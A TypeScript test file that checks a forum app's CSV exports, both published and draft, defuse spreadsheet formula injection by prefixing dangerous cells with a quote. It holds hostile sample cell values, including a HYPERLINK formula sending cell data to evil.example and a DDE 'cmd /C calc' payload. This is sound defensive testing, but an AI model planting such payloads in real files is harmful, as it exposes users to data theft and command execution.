import { parse } from 'csv-parse/sync';
import { toGlobalId } from '../src/shared/global-id';
import { type TestApp, startTestApp, tokens } from './support/app';

/**
 * CSV formula injection: a spreadsheet opening an export never runs a cell as a formula. Cells are
 * read back as a spreadsheet reads them (csv-parse), in the published and the DRAFT export.
 */
let app: TestApp;
let editor: string;

const KEY = 'baikal-education-forum-5';
const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
  city: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  venue: '-2+3',
  theme: '\tTAB',
  series_title: '+7 (495) 000-00-00',
};

beforeAll(async () => {
  app = await startTestApp({ draft: true });
  ({ editor } = await tokens(app, 'formula', ['EDITOR']));
  for (const database of [app.database, app.draft!]) {
    const query = (text: string, params: unknown[]) => database.dataSource.query(database.dialect.placeholders(text), params);
    await query('UPDATE forum SET title = ?, city = ?, venue = ?, theme = ?, series_title = ? WHERE id = ?', [...Object.values(HOSTILE), KEY]);
    await query('UPDATE figure SET value = ? WHERE id = ?', [-5, 'clusters-2022']);
  }
});
afterAll(() => app?.close());

async function csvRows(path: string, token?: string): Promise<Record<string, string>[]> {
  const response = await app.get(path, { token });
  expect(response.status).toBe(200);
  return parse(response.text, { bom: true, columns: true, record_delimiter: '\r\n' });
}

describe('CSV exports never let a spreadsheet run a cell as a formula', () => {
  it.each([
    ['the published export, anonymous', '/export/forums.csv', undefined],
    ['the DRAFT export, an editor', '/export/forums.csv?stage=DRAFT', 'editor'],
  ])('%s: a cell beginning with =, +, -, @ or tab reads back with a leading quote', async (_name, path, who) => {
    const rows = await csvRows(path, who ? editor : undefined);
    const row = rows.find((r) => r.title.includes('HYPERLINK'))!;
    expect({ title: row.title, city: row.city, venue: row.venue, theme: row.theme, series_title: row.series_title }).toEqual({
      title: `'=HYPERLINK("http://evil.example/?"&A1,"Подробнее")`,
      city: `'@SUM(1+1)*cmd|' /C calc'!A0`,
      venue: `'-2+3`,
      theme: `'\tTAB`,
      series_title: `'+7 (495) 000-00-00`,
    });
    // The other rows are as they were.
    expect(rows.find((r) => r.title === 'VIII Байкальский образовательный форум')?.edition).toBe('8');
  });

  it('writes a negative number as the number: a value, not a formula', async () => {
    const rows = await csvRows('/export/figures.csv');
    expect(rows.find((r) => r.id === toGlobalId('Figure', 'clusters-2022'))?.value).toBe('-5');
  });

  it('leaves the JSON export as it is stored: it is no spreadsheet', async () => {
    const rows = (await app.get<Record<string, unknown>[]>('/export/forums.json')).body;
    expect(rows.find((r) => String(r.title).includes('HYPERLINK'))).toMatchObject(HOSTILE);
  });
});
